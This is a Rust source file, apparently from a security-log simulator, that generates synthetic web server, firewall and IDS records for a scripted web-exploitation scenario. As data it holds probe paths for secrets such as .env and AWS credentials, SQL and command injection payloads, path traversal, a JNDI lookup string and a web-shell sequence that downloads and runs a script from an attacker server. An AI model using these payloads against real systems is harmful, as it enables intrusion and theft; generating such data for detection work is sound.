use std::net::Ipv4Addr;

use crate::Kind;
use crate::attacks::new_attacker;
use crate::devices::firewall::Flow;
use crate::devices::sensor::Signature;
use crate::devices::web::{BROWSERS, Request};
use crate::stage::{Plot, Stage};

const PROBES: [&str; 16] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/",
    "/admin/login.php",
    "/config.php.bak",
    "/backup.sql",
    "/server-status",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/xmlrpc.php",
    "/console/",
    "/.aws/credentials",
    "/debug/default/view",
    "/cgi-bin/luci",
    "/owa/",
];
const INJECTIONS: [&str; 5] = [
    "?id=4%27%20OR%20%271%27=%271",
    "?id=4%20UNION%20SELECT%201,user_login,user_pass%20FROM%20users--",
    "?id=4;WAITFOR%20DELAY%20%270:0:5%27--",
    "?q=%27%20AND%20SLEEP(5)--%20-",
    "?id=-1%20UNION%20ALL%20SELECT%20NULL,table_name%20FROM%20information_schema.tables--",
];
const COMMANDS: [&str; 5] = [
    "?host=127.0.0.1;id",
    "?file=../../../../../../etc/passwd",
    "?page=php://filter/convert.base64-encode/resource=config",
    "?name=%7B%7B7*7%7D%7D&cmd=$(id)",
    "?x=$%7Bjndi:ldap://ldap-check.example/a%7D",
];

/// Scan, injection, web shell, a connection out.
pub(crate) fn exploitation(stage: &mut Stage, start: f64) {
    let from = new_attacker(stage);
    let server = if stage.dice.chance(0.5) { from } else { new_attacker(stage) };
    let plot = Plot {
        kind: Kind::WebExploitation,
        attackers: if server == from { vec![from] } else { vec![from, server] },
        victim: stage.company.name(stage.company.web),
        class: "web_attack",
        techniques: &["T1595.002", "T1190", "T1505.003", "T1059.004", "T1071.001"],
    };
    stage.tell(plot, |stage| {
        let at = scan(stage, start, from);
        let at = inject(stage, at + stage_pause(at), from);
        shell(stage, at + 40.0, (from, server));
    });
}

/// Attackers look at what they found before they go on.
fn stage_pause(at: f64) -> f64 {
    60.0 + at % 300.0
}

fn scan(stage: &mut Stage, start: f64, from: Ipv4Addr) -> f64 {
    let agent = *stage.dice.pick(&[
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)",
        "sqlmap/1.9#stable (https://sqlmap.org)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "python-requests/2.32.3",
        "gobuster/3.6",
        BROWSERS[0],
    ]);
    let mut at = start;
    for _ in 0..stage.dice.range(30..=90) {
        at += stage.dice.range(0.05..=2.5);
        let path = *stage.dice.pick(&PROBES);
        let status = *stage.dice.pick(&[404, 404, 404, 404, 403, 301]);
        stage.request(at, &Request { from, method: "GET", path, status, agent });
    }
    at
}

fn inject(stage: &mut Stage, start: f64, from: Ipv4Addr) -> f64 {
    let payloads = if stage.dice.chance(0.5) { &INJECTIONS } else { &COMMANDS };
    let page = *stage.dice.pick(stage.company.web_app);
    let page = page.split('?').next().unwrap_or(page).to_owned();
    let agent = *stage.dice.pick(&BROWSERS);
    let mut at = start;
    for _ in 0..stage.dice.range(8..=20) {
        at += stage.dice.range(1.0..=15.0);
        let path = format!("{page}{}", stage.dice.pick(payloads));
        let status = *stage.dice.pick(&[200, 200, 500, 403]);
        stage.request(at, &Request { from, method: "GET", path: &path, status, agent });
        if status == 500 {
            stage.web_error(at + 0.1, from, "PHP Fatal error: Uncaught PDOException: SQLSTATE[42000]: Syntax error or access violation");
        }
        if stage.dice.chance(0.3) {
            let to = stage.company.address(stage.company.web);
            let flow = Flow { from, to, port: 443, sent: 900, received: 1200, duration: 1 };
            stage.eve_alert(
                at + 0.1,
                flow,
                Signature {
                    id: 2_006_446,
                    name: "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
                    category: "Web Application Attack",
                    severity: 1,
                },
            );
        }
    }
    at
}

fn shell(stage: &mut Stage, start: f64, (from, server): (Ipv4Addr, Ipv4Addr)) {
    let agent = *stage.dice.pick(&BROWSERS);
    let folder =
        *stage.dice.pick(&["/uploads/", "/wp-content/uploads/2026/11/", "/images/", "/tmp/"]);
    let name =
        *stage.dice.pick(&["thumb.php", "cache-img.php", "x1.jsp", "wp-temp.php", "up.phtml"]);
    let path = format!("{folder}{name}");
    let mut at = start;
    stage.request(at, &Request { from, method: "POST", path: "/upload.php", status: 200, agent });
    let mut commands = vec![
        "id",
        "uname%20-a",
        "cat%20/etc/passwd",
        "ls%20-la%20/var/www",
        "wget%20http://SERVER/k.sh%20-O%20/tmp/k.sh",
        "sh%20/tmp/k.sh",
    ];
    let keep = stage.dice.range(4..=6);
    commands.truncate(keep);
    for command in commands {
        at += stage.dice.range(3.0..=50.0);
        let path = format!("{path}?cmd={}", command.replace("SERVER", &server.to_string()));
        stage.request(at, &Request { from, method: "GET", path: &path, status: 200, agent });
    }
    let web = stage.company.address(stage.company.web);
    let port = *stage.dice.pick(&[443, 4444, 8443, 9001]);
    for _ in 0..stage.dice.range(2..=5) {
        at += stage.dice.range(20.0..=120.0);
        let flow =
            Flow { from: web, to: server, port, sent: 14_000, received: 210_000, duration: 50 };
        stage.flow_allowed(at, flow);
        if stage.dice.chance(0.5) {
            stage.eve_alert(
                at,
                flow,
                Signature {
                    id: 2_019_284,
                    name: "ET ATTACK_RESPONSE Output of id command from HTTP server",
                    category: "Potentially Bad Traffic",
                    severity: 2,
                },
            );
        }
    }
}
